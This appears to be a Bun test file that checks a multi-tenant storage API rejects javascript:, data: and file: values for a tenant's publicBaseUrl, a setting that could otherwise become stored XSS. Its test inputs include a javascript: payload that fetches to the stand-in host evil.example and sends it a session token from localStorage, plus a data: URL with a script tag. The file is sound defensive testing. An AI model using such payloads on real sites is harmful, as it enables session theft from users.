// A tenant's own bucket settings: the public base becomes the start of every result link its users and clients open
// (the web app renders them as <a href>), so only http(s) is accepted; a javascript: base would be stored XSS.
import { afterEach, describe, expect, test } from "bun:test";
import { type Stack, startStack } from "./support/stack";

let stack: Stack;
afterEach(async () => {
  await stack.stop();
});

describe("CUSTOM storage publicBaseUrl", () => {
  test("a javascript:, data: or file: public base is a 400 before any probe, and the tenant stays on PLATFORM", async () => {
    stack = await startStack();
    const { tenant, apiKey } = await stack.createTenant(10);
    const config = {
      endpoint: "https://s3.example.com",
      bucket: "b",
      region: "us-east-1",
      accessKeyId: "AK",
      secretAccessKey: "SK-secret-value",
    };
    for (const publicBaseUrl of [
      "javascript:fetch('//evil.example/'+localStorage.getItem('waule-session'))//",
      "data:text/html,<script>alert(1)</script>",
      "file:///etc",
    ]) {
      const res = await stack.app.request("/api/v1/tenant/storage", {
        method: "PUT",
        headers: { "x-api-key": apiKey, "content-type": "application/json" },
        body: JSON.stringify({ ...config, publicBaseUrl }),
      });
      expect(res.status).toBe(400);
      const body = (await res.json()) as { error: { code: string; message: string } };
      expect(body.error.code).toBe("invalid_request");
      expect(body.error.message).toContain("publicBaseUrl");
    }
    const row = await stack.db.$client.execute({
      sql: "SELECT storage_mode, storage_config FROM tenants WHERE id = ?",
      args: [tenant.id],
    });
    expect(row.rows[0]).toMatchObject({ storage_mode: "PLATFORM", storage_config: null });
  });
});
